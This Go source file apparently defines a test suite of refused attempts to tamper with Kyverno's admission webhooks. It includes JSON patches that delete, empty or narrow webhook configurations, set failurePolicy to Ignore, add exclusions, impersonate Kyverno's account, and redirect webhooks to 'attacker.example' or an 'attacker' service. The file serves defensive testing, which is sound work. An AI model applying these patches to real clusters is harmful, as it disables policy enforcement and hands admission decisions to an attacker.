package lock

const (
	validatingName = "kyverno-resource-validating-webhook-cfg"
	mutatingName   = "kyverno-resource-mutating-webhook-cfg"

	noWebhooks  = `{"webhooks": []}`
	whyWebhooks = "Without its webhooks the API server doesn't ask Kyverno, and no webhook may guard another."
)

// onWebhooks are attempts on what makes the API server ask Kyverno.
var onWebhooks = []Attempt{
	refused("validating-webhooks-deleted", "Deletes the configuration of Kyverno's validating webhooks.",
		whyWebhooks, unguarded, validating("")),
	refused("validating-webhooks-deleted-with-all", "Deletes the configurations of all validating webhooks at once.",
		whyWebhooks, unguarded, request{kind: validatingWebhook}),
	refused("validating-webhooks-emptied", "Takes all validating webhooks out of Kyverno's configuration.",
		whyWebhooks, unguarded, validating(noWebhooks)),
	refused("validating-webhooks-labelled",
		"Changes a label, which says whose the configuration is: Kyverno finds its own by it.",
		whyWebhooks, unguarded, validating(`{"metadata": {"labels": {"webhook.kyverno.io/managed-by": "nobody"}}}`)),
	refused("validating-webhooks-deleted-as-kyverno",
		"Deletes the configuration under the name of Kyverno's account.",
		"Kyverno changes its webhooks all the time, and deletes them only when it is taken away.",
		impersonated, by(as(admissionController), validating(""))),
	refused("mutating-webhooks-deleted", "Deletes the configuration of Kyverno's mutating webhooks.",
		whyWebhooks, unguarded, mutating("")),
	refused("mutating-webhooks-deleted-with-all", "Deletes the configurations of all mutating webhooks at once.",
		whyWebhooks, unguarded, request{kind: mutatingWebhook}),
	refused("mutating-webhooks-emptied", "Takes all mutating webhooks out of Kyverno's configuration.",
		whyWebhooks, unguarded, mutating(noWebhooks)),
	refused("mutating-webhooks-deleted-as-kyverno",
		"Deletes the configuration under the name of Kyverno's account.",
		"Kyverno changes its webhooks all the time, and deletes them only when it is taken away.",
		impersonated, by(as(admissionController), mutating(""))),
}

// asKyverno are attempts on the webhooks that an ImageValidatingPolicy has for
// itself, under the name of who keeps them.
var asKyverno = []Attempt{
	impersonating("emptied", "takes all webhooks out of it", noWebhooks),
	impersonating("ignores-failures", "lets in what Kyverno doesn't answer for", replaced("failurePolicy", `"Ignore"`)),
	impersonating("narrowed", "asks Kyverno about Jobs alone", replaced("rules",
		`[{"apiGroups": ["batch"], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["jobs"]}]`)),
	impersonating("exact", "doesn't ask about other versions of an API", replaced("matchPolicy", `"Exact"`)),
	impersonating("never-matches", "is given a condition that nothing meets",
		replaced("matchConditions", `[{"name": "never", "expression": "false"}]`)),
	impersonating("excludes", "leaves out another namespace", replaced("namespaceSelector",
		`{"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["default"]}]}`)),
	impersonating("excuses", "leaves out objects with a label", replaced("objectSelector",
		`{"matchExpressions": [{"key": "excused", "operator": "DoesNotExist"}]}`)),
	impersonating("led-away", "asks another server", replaced("clientConfig", `{"url": "https://attacker.example/"}`)),
	impersonating("led-to-service", "asks another service", toService),
	refused("mutating-webhooks-emptied-as-kyverno",
		"Takes all mutating webhooks out of Kyverno's configuration under the name of Kyverno's account.",
		whyImpersonated, impersonated, by(as(admissionController), mutating(noWebhooks))),
	refused("mutating-webhooks-led-to-service-as-kyverno",
		"Has a service of the attacker's answer for Kyverno's mutating webhooks, under the name of Kyverno's account.",
		whyImpersonated, impersonated, by(as(admissionController), mutating(toService))),
}

// toService leads the first webhook of a configuration elsewhere.
var toService = replaced("clientConfig", `{"service": {"namespace": "default", "name": "attacker"}}`)

const whyImpersonated = "An administrator may impersonate Kyverno's account, which changes its webhooks all the time."

func impersonating(name, does, body string) Attempt {
	return refused("validating-webhooks-"+name+"-as-kyverno",
		"Changes the configuration of Kyverno's validating webhooks under the name of Kyverno's account, so that it "+
			does+".", whyImpersonated, impersonated, by(as(admissionController), validating(body)))
}

// replaced is a patch of the first webhook of a configuration: in a run there is
// no other policy.
func replaced(field, value string) string {
	return `[{"op": "add", "path": "/webhooks/0/` + field + `", "value": ` + value + `}]`
}

func validating(body string) request {
	return request{kind: validatingWebhook, name: validatingName, body: body}
}

func mutating(body string) request {
	return request{kind: mutatingWebhook, name: mutatingName, body: body}
}
